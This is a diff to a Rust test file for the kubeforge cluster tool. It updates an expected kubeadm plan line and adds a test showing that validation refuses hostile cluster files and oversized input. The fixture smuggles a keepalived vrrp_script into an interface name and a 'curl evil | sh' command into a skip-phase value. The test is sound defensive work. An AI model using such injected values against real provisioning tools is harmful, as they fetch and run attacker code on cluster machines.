@@ -152,7 +152,7 @@ fn plan_shows_machines_files_and_commands_by_phase() {
         "    write /etc/haproxy/haproxy.cfg (0644,",
         "    write /etc/kubeforge/kubeadm-init.yaml (0600,",
         "holds secrets",
-        "    run   /usr/local/bin/kubeadm init --config /etc/kubeforge/kubeadm-init.yaml --upload-certs --experimental-patches /etc/kubeforge/patches --skip-phases=preflight,addon/coredns && mkdir -p /var/lib/kubeforge/applied && touch /var/lib/kubeforge/applied/kubeadm-init  (skip if kubeadm init finished here before",
+        "    run   /usr/local/bin/kubeadm init --config /etc/kubeforge/kubeadm-init.yaml --upload-certs --experimental-patches /etc/kubeforge/patches --skip-phases=preflight,addon/coredns (detached: survives a lost connection; log in /var/log/kubeforge/kubeforge-kubeadm-init.log)  (skip if kubeadm init finished here before",
         "    write /etc/systemd/system/kubeforge-podnet.service (0644,",
         "    write /usr/local/lib/kubeforge/podnet.sh (0755,",
         "Phase 11/11 addons:",
@@ -415,4 +415,53 @@ fn a_static_inventory_can_be_ansible_ini_or_yaml_or_kubeforge_yaml() {
         plans[0], plans[2],
         "INI and kubeforge YAML give the same machines"
     );
+}
+
+/// The two injections of issue 15 (item 2) as a user would write them: `validate` and
+/// `plan --offline -o json` refuse both with their positions (exit 2) and print no
+/// plan; an oversized file is refused before it is read (item 3).
+#[test]
+fn hostile_cluster_files_are_refused_by_validate_and_plan() {
+    let dir = tempfile::tempdir().unwrap();
+    let f = dir.path().join("evil.yaml");
+    std::fs::write(
+        &f,
+        "apiVersion: kubeforge.dev/v1alpha1\nkind: Cluster\nmetadata: {name: x}\nspec:\n  kubernetesVersion: v1.20.2\n  provider: {docker: {}}\n  nodePools: {loadBalancers: {count: 2}}\n  loadBalancer:\n    interface: \"eth0\\n}\\nvrrp_script pwn {\\n    script /tmp/x\\n\"\n  kubeadm: {skipPhases: ['preflight; curl evil | sh']}\n",
+    )
+    .unwrap();
+    for args in [vec!["validate"], vec!["plan", "--offline", "-o", "json"]] {
+        let out = kubeforge()
+            .args(&args)
+            .arg("-f")
+            .arg(&f)
+            .assert()
+            .code(2)
+            .get_output()
+            .clone();
+        let stdout = String::from_utf8(out.stdout).unwrap();
+        let stderr = String::from_utf8(out.stderr).unwrap();
+        let all = format!("{stdout}{stderr}");
+        assert!(
+            all.contains(":9:5: spec.loadBalancer.interface: `eth0\\n}\\nvrrp_script pwn {\\n    script /tmp/x\\n` is not a network interface name"),
+            "{args:?}: {all}"
+        );
+        assert!(
+            all.contains(":10:26: spec.kubeadm.skipPhases[0]: `preflight; curl evil | sh` is not a phase of kubeadm init or join 1.20"),
+            "{args:?}: {all}"
+        );
+        assert!(!all.contains("kubeadm init --config"), "no plan: {all}");
+    }
+    let big = dir.path().join("big.yaml");
+    std::fs::File::create(&big)
+        .unwrap()
+        .set_len(1 << 30)
+        .unwrap();
+    kubeforge()
+        .args(["plan", "--offline", "-f"])
+        .arg(&big)
+        .assert()
+        .code(2)
+        .stderr(predicate::str::contains(
+            "big.yaml: the cluster file is 1073741824 bytes, more than the 4194304 bytes (4 MiB) kubeforge reads",
+        ));
 }
